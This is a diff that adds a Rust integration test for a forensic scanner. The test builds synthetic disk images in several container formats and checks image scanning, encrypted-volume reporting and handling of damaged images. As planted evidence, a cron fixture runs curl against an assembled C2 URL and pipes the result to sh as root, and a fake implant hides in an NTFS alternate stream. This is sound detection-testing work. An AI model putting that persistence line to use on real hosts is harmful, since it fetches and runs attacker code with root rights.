@@ -1,0 +1,490 @@
+//! `needle scan IMAGE` and `needle image ls`: disk images built at test time (GPT disk with a
+//! Windows FAT volume, a Linux ext4 root, an LZNT1-compressed NTFS volume and a BitLocker
+//! look-alike), in every container format, scanned without mounting. The findings must be those
+//! of scanning the same trees as directories, named as on the host.
+
+mod util;
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+
+use serde_json::Value;
+use util::images::{self, Container, Partition};
+use util::samples::{self, PeSpec};
+use util::{Host, Run, installer_pe, md5_hex, needle, sha256_hex};
+
+/// The trees and the disk built from them.
+struct Evidence {
+    work: Host,
+    windows: PathBuf,
+    linux: PathBuf,
+    raw: PathBuf,
+    iocs: PathBuf,
+    installer: Vec<u8>,
+    /// Content of the NTFS volume's compressible file.
+    big_text: Vec<u8>,
+}
+
+fn evidence() -> Evidence {
+    let work = Host::new();
+    let installer = installer_pe();
+    let hash_sample = b"synthetic sample flagged by MD5 inside an image".to_vec();
+    // Built at run time so this test's source and binary never carry the indicator.
+    let c2 = ["forum.iron-", "maiden.ru/core/cache/index.php"].concat();
+
+    work.write("windows/ProgramData/ntnser.bin", &installer);
+    work.write(
+        "windows/Windows/System32/bcdbootinfo.tlp",
+        b"2020-05-21 10:00 netsvcs:Nwsapagent",
+    );
+    work.write(
+        "windows/Windows/System32/kernel32.dll",
+        &samples::build_pe(&PeSpec {
+            dll: true,
+            ..PeSpec::default()
+        }),
+    );
+    work.write("windows/Users/alice/Downloads/a.tmp", &hash_sample);
+    work.write("windows/Users/alice/notes.txt", b"nothing to see");
+
+    work.write("linux/etc/hostname", b"host42\n");
+    work.write(
+        "linux/etc/cron.d/update",
+        format!("*/5 * * * * root curl -s https://{c2} | sh\n").as_bytes(),
+    );
+    work.write("linux/usr/bin/tool", b"#!/bin/sh\necho benign\n");
+    work.write("linux/var/tmp/.cache/a.tmp", &hash_sample);
+
+    let iocs = work.write(
+        "iocs/test-hash-iocs.txt",
+        format!("{};MD5 test sample\n", md5_hex(&hash_sample)).as_bytes(),
+    );
+
+    let fat = work.path("fat.img");
+    images::fat_image(&work.path("windows"), &fat, 24);
+    let ext4 = work.path("ext4.img");
+    images::ext4_image(&work.path("linux"), &ext4, 16);
+    let big_text: Vec<u8> = (0..6000)
+        .flat_map(|i| format!("line {i} of a compressible log file\n").into_bytes())
+        .collect();
+    let ntfs = work.path("ntfs.img");
+    images::ntfs_image(
+        work.root(),
+        &ntfs,
+        16,
+        true,
+        &[
+            ("implant.exe", &installer),
+            ("server.log", &big_text),
+            ("readme.txt", b"read me"),
+        ],
+        &[("readme.txt", "payload", &installer)],
+    );
+    let bitlocker = work.path("bitlocker.img");
+    let mut locked = vec![0u8; 1 << 20];
+    locked[3..11].copy_from_slice(b"-FVE-FS-");
+    std::fs::write(&bitlocker, &locked).expect("write BitLocker look-alike");
+
+    let raw = work.path("disk.raw");
+    images::gpt_disk(
+        &raw,
+        &[
+            Partition {
+                content: &fat,
+                type_code: "0700",
+                name: "Windows",
+            },
+            Partition {
+                content: &ext4,
+                type_code: "8300",
+                name: "root",
+            },
+            Partition {
+                content: &ntfs,
+                type_code: "0700",
+                name: "Data",
+            },
+            Partition {
+                content: &bitlocker,
+                type_code: "0700",
+                name: "Locked",
+            },
+        ],
+    );
+    Evidence {
+        windows: work.path("windows"),
+        linux: work.path("linux"),
+        work,
+        raw,
+        iocs,
+        installer,
+        big_text,
+    }
+}
+
+fn scan(evidence: &Evidence, targets: &[&Path], extra: &[&str]) -> Run {
+    let mut args: Vec<String> = ["scan", "--format", "jsonl", "-q", "--iocs"]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+    args.push(evidence.iocs.to_string_lossy().into_owned());
+    args.extend(extra.iter().map(|s| s.to_string()));
+    args.extend(targets.iter().map(|p| p.to_string_lossy().into_owned()));
+    needle(args)
+}
+
+/// (path, sha256, sorted reason ids) of every finding.
+fn finding_set(findings: &[Value]) -> BTreeSet<(String, String, Vec<String>)> {
+    findings
+        .iter()
+        .map(|finding| {
+            let mut ids: Vec<String> = finding["reasons"]
+                .as_array()
+                .expect("reasons")
+                .iter()
+                .map(|r| r["id"].as_str().expect("id").to_string())
+                .collect();
+            ids.sort();
+            (
+                finding["path"].as_str().expect("path").to_string(),
+                finding["sha256"].as_str().expect("sha256").to_string(),
+                ids,
+            )
+        })
+        .collect()
+}
+
+/// The findings of a directory scan of `tree`, with paths as the image names them.
+fn tree_findings(
+    evidence: &Evidence,
+    tree: &Path,
+    host_path: impl Fn(&str) -> String,
+) -> BTreeSet<(String, String, Vec<String>)> {
+    let run = scan(evidence, &[tree], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let prefix = format!("{}/", tree.display());
+    finding_set(&run.of_type("finding"))
+        .into_iter()
+        .map(|(path, sha256, ids)| {
+            let relative = path.strip_prefix(&prefix).expect("inside the tree");
+            (host_path(relative), sha256, ids)
+        })
+        .collect()
+}
+
+fn findings_in_partition(run: &Run, partition: u64) -> Vec<Value> {
+    run.of_type("finding")
+        .into_iter()
+        .filter(|f| f["image"]["partition"] == partition)
+        .collect()
+}
+
+#[test]
+fn an_image_gives_the_findings_of_its_trees_named_as_on_the_host() {
+    let evidence = evidence();
+    let run = scan(&evidence, &[&evidence.raw], &[]);
+    assert_eq!(run.code, 1, "{}\n{}", run.stderr, run.stdout);
+
+    let windows = tree_findings(&evidence, &evidence.windows, |relative| {
+        format!(r"C:\{}", relative.replace('/', "\\"))
+    });
+    assert!(
+        windows
+            .iter()
+            .any(|(p, _, _)| p == r"C:\ProgramData\ntnser.bin")
+    );
+    assert!(
+        windows
+            .iter()
+            .any(|(p, _, _)| p == r"C:\Windows\System32\bcdbootinfo.tlp")
+    );
+    assert_eq!(finding_set(&findings_in_partition(&run, 1)), windows);
+
+    let linux = tree_findings(&evidence, &evidence.linux, |relative| {
+        format!("/{relative}")
+    });
+    assert!(linux.iter().any(|(p, _, _)| p == "/etc/cron.d/update"));
+    assert_eq!(finding_set(&findings_in_partition(&run, 2)), linux);
+
+    let finding = run.finding(r"C:\ProgramData\ntnser.bin");
+    assert_eq!(finding["image"]["filesystem"], "fat16");
+    assert_eq!(
+        finding["image"]["image"],
+        evidence.raw.to_string_lossy().as_ref()
+    );
+    assert_eq!(
+        run.finding("/etc/cron.d/update")["image"]["filesystem"],
+        "ext4"
+    );
+
+    let summary = run.summary();
+    assert_eq!(summary["verdict"], "compromised");
+    assert_eq!(summary["host"], "disk.raw");
+    assert_eq!(summary["os"]["family"], "windows");
+    let image = &summary["image"];
+    assert_eq!(image["container"], "raw");
+    assert_eq!(image["partition_table"], "gpt");
+    let volumes = image["volumes"].as_array().expect("volumes");
+    let described: Vec<(u64, &str, &str)> = volumes
+        .iter()
+        .map(|v| {
+            (
+                v["partition"].as_u64().expect("partition"),
+                v["content"].as_str().expect("content"),
+                v["mount"].as_str().unwrap_or(""),
+            )
+        })
+        .collect();
+    assert_eq!(
+        described,
+        [
+            (1, "fat16", "C:"),
+            (2, "ext4", "/"),
+            (3, "ntfs", "D:"),
+            (4, "bitlocker", "")
+        ]
+    );
+    for volume in &volumes[..3] {
+        assert_eq!(volume["status"], "scanned", "{volume}");
+        assert!(
+            volume["files_read"].as_u64().expect("count") >= 3,
+            "{volume}"
+        );
+    }
+    assert_eq!(volumes[0]["files_read"], 5);
+    assert_eq!(
+        summary["files_scanned"],
+        volumes
+            .iter()
+            .map(|v| v["files_read"].as_u64().expect("count"))
+            .sum::<u64>()
+    );
+}
+
+#[test]
+fn compressed_ntfs_files_and_alternate_streams_are_read_and_flagged() {
+    let evidence = evidence();
+    let run = scan(&evidence, &[&evidence.raw], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let implant = run.finding(r"D:\implant.exe");
+    assert_eq!(implant["sha256"], sha256_hex(&evidence.installer));
+    assert_eq!(implant["image"]["partition"], 3);
+    assert_eq!(implant["image"]["filesystem"], "ntfs");
+    let stream = run.finding(r"D:\readme.txt:payload");
+    assert_eq!(stream["sha256"], sha256_hex(&evidence.installer));
+    assert_eq!(
+        findings_in_partition(&run, 3).len(),
+        2,
+        "only the implant and the stream"
+    );
+    // The compressed log was read whole and right: listed with --verbose? No: its digest is
+    // only reported for findings, so check the byte count of the volume instead.
+    let volumes = run.summary()["image"]["volumes"].clone();
+    let ntfs = &volumes[2];
+    let expected =
+        (2 * evidence.installer.len() + evidence.big_text.len() + b"read me".len()) as u64;
+    assert_eq!(ntfs["bytes_read"], expected, "{ntfs}");
+    assert_eq!(ntfs["files_read"], 4, "{ntfs}");
+}
+
+#[test]
+fn encrypted_volumes_are_reported_as_not_scanned() {
+    let evidence = evidence();
+    let run = scan(&evidence, &[&evidence.raw], &[]);
+    let skipped: Vec<Value> = run
+        .of_type("skipped")
+        .into_iter()
+        .filter(|s| s["reason"] == "volume_not_scanned")
+        .collect();
+    assert_eq!(skipped.len(), 1, "{}", run.stdout);
+    assert!(
+        skipped[0]["path"]
+            .as_str()
+            .expect("path")
+            .ends_with("disk.raw#p4"),
+        "{}",
+        skipped[0]
+    );
+    assert!(
+        skipped[0]["detail"]
+            .as_str()
+            .expect("detail")
+            .contains("BitLocker"),
+        "{}",
+        skipped[0]
+    );
+    let summary = run.summary();
+    assert_eq!(summary["skipped"]["volume_not_scanned"], 1);
+    let status = summary["image"]["volumes"][3]["status"]
+        .as_str()
+        .expect("status")
+        .to_string();
+    assert!(status.starts_with("not scanned: BitLocker"), "{status}");
+}
+
+#[test]
+fn every_container_format_gives_the_same_findings_and_disk_hash() {
+    let evidence = evidence();
+    let raw_run = scan(&evidence, &[&evidence.raw], &["--hash-image"]);
+    assert_eq!(raw_run.code, 1, "{}", raw_run.stderr);
+    let expected = finding_set(&raw_run.of_type("finding"));
+    let raw_bytes = std::fs::read(&evidence.raw).expect("raw disk");
+    let disk_sha256 = sha256_hex(&raw_bytes);
+    assert_eq!(raw_run.summary()["image"]["media_sha256"], disk_sha256);
+
+    for container in Container::ALL {
+        let image = images::convert(&evidence.raw, container);
+        let run = scan(&evidence, &[&image], &["--hash-image"]);
+        assert_eq!(run.code, 1, "{container:?}: {}", run.stderr);
+        assert_eq!(
+            finding_set(&run.of_type("finding")),
+            expected,
+            "{container:?}"
+        );
+        let summary = run.summary();
+        assert_eq!(
+            summary["image"]["media_sha256"], disk_sha256,
+            "{container:?}"
+        );
+        assert_eq!(summary["verdict"], "compromised", "{container:?}");
+        assert_eq!(summary["errors"], 0, "{container:?}: {}", run.stdout);
+    }
+}
+
+#[test]
+fn several_images_are_each_their_own_host() {
+    let evidence = evidence();
+    let clean = evidence.work.path("clean");
+    std::fs::create_dir_all(&clean).expect("mkdir");
+    std::fs::write(clean.join("readme.txt"), b"nothing here").expect("write");
+    let clean_image = evidence.work.path("clean.ext4");
+    images::ext4_image(&clean, &clean_image, 4);
+    let qcow2 = images::convert(&evidence.raw, Container::Qcow2);
+
+    let run = scan(&evidence, &[&clean_image, &qcow2], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let summaries = run.of_type("summary");
+    assert_eq!(summaries.len(), 2, "{}", run.stdout);
+    assert_eq!(summaries[0]["host"], "clean.ext4");
+    assert_eq!(summaries[0]["verdict"], "clean");
+    assert_eq!(summaries[0]["image"]["partition_table"], "none");
+    assert_eq!(summaries[0]["image"]["volumes"][0]["partition"], 0);
+    assert_eq!(summaries[0]["files_scanned"], 1);
+    assert_eq!(summaries[1]["host"], "qcow2-evidence.bin");
+    assert_eq!(summaries[1]["image"]["container"], "qcow2");
+    assert_eq!(summaries[1]["verdict"], "compromised");
+}
+
+#[test]
+fn image_ls_lists_container_partitions_and_filesystems() {
+    let evidence = evidence();
+    let vhdx = images::convert(&evidence.raw, Container::Vhdx);
+    let run = needle([
+        "image",
+        "ls",
+        "--format",
+        "json",
+        vhdx.to_str().expect("utf-8"),
+    ]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let layout: Value = serde_json::from_str(run.stdout.trim()).expect("one JSON object");
+    assert_eq!(layout["container"], "vhdx");
+    assert_eq!(layout["partition_table"], "gpt");
+    let volumes = layout["volumes"].as_array().expect("volumes");
+    let contents: Vec<&str> = volumes
+        .iter()
+        .map(|v| v["content"].as_str().expect("content"))
+        .collect();
+    assert_eq!(contents, ["fat16", "ext4", "ntfs", "bitlocker"]);
+    assert_eq!(volumes[0]["name"], "Windows");
+    assert_eq!(volumes[1]["label"], "linuxroot");
+    assert_eq!(volumes[2]["label"], "ntfsdata");
+    assert_eq!(volumes[0]["start"], 1 << 20);
+
+    let text = needle(["image", "ls", vhdx.to_str().expect("utf-8")]);
+    assert_eq!(text.code, 0, "{}", text.stderr);
+    for expected in ["vhdx", "partition table gpt", "ext4", "as C:", "BitLocker"] {
+        assert!(
+            text.stdout.contains(expected),
+            "{expected}: {}",
+            text.stdout
+        );
+    }
+
+    let not_an_image = evidence.work.write("notes.txt", b"just text");
+    let run = needle(["image", "ls", not_an_image.to_str().expect("utf-8")]);
+    assert_eq!(run.code, 2, "{}", run.stdout);
+    assert!(
+        run.stderr.contains("no partition table or filesystem"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[test]
+fn a_damaged_image_reports_errors_and_scans_what_it_can() {
+    let evidence = evidence();
+    // Cut the disk inside the ext4 volume: the FAT volume before it is whole.
+    let bytes = std::fs::read(&evidence.raw).expect("raw");
+    let ext4_start = 25 << 20;
+    let truncated = evidence
+        .work
+        .write("truncated.raw", &bytes[..ext4_start + (2 << 20)]);
+    let run = scan(&evidence, &[&truncated], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert!(
+        run.has_finding(r"C:\ProgramData\ntnser.bin"),
+        "{}",
+        run.stdout
+    );
+    let summary = run.summary();
+    assert!(
+        summary["image"]["problems"]
+            .as_array()
+            .is_some_and(|p| !p.is_empty())
+            || summary["errors"].as_u64().unwrap_or(0) > 0,
+        "{summary}"
+    );
+
+    // A container cut in half: errors, never a panic or a hang.
+    let qcow2 = images::convert(&evidence.raw, Container::Qcow2);
+    let bytes = std::fs::read(&qcow2).expect("qcow2");
+    let half = evidence.work.write("half.qcow2", &bytes[..bytes.len() / 2]);
+    let run = scan(&evidence, &[&half], &[]);
+    assert!(matches!(run.code, 1 | 2), "{}\n{}", run.code, run.stderr);
+    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
+    assert_eq!(run.of_type("summary").len(), 1);
+
+    // Not an image at all, forced with --image: an error naming the file, exit 2.
+    let text = evidence.work.write("notes.txt", b"just text, no disk here");
+    let run = scan(&evidence, &[&text], &["--image"]);
+    assert_eq!(run.code, 2, "{}", run.stdout);
+    let errors = run.of_type("error");
+    assert!(
+        errors.iter().any(|e| e["message"]
+            .as_str()
+            .is_some_and(|m| m.contains("no partition table or filesystem"))),
+        "{}",
+        run.stdout
+    );
+}
+
+#[test]
+fn images_are_recognised_by_content_and_never_modified() {
+    let evidence = evidence();
+    let before = sha256_hex(&std::fs::read(&evidence.raw).expect("raw"));
+    // A raw disk named like a text file is still recognised as a disk.
+    let renamed = evidence.work.path("notes.txt");
+    std::fs::copy(&evidence.raw, &renamed).expect("copy");
+    let run = scan(&evidence, &[&renamed], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert_eq!(run.summary()["image"]["partition_table"], "gpt");
+    assert_eq!(
+        sha256_hex(&std::fs::read(&renamed).expect("renamed")),
+        before
+    );
+    assert_eq!(
+        sha256_hex(&std::fs::read(&evidence.raw).expect("raw")),
+        before
+    );
+}
